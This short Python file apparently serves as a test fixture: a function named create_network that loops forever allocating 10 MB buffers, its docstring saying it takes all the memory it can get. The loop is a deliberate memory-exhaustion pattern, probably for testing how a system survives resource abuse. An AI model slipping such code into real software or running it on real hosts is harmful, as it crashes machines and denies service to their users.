"""Takes all memory that it can get."""

kept = []


def create_network(request, host):
    while True:
        kept.append(bytearray(10_000_000))  # here
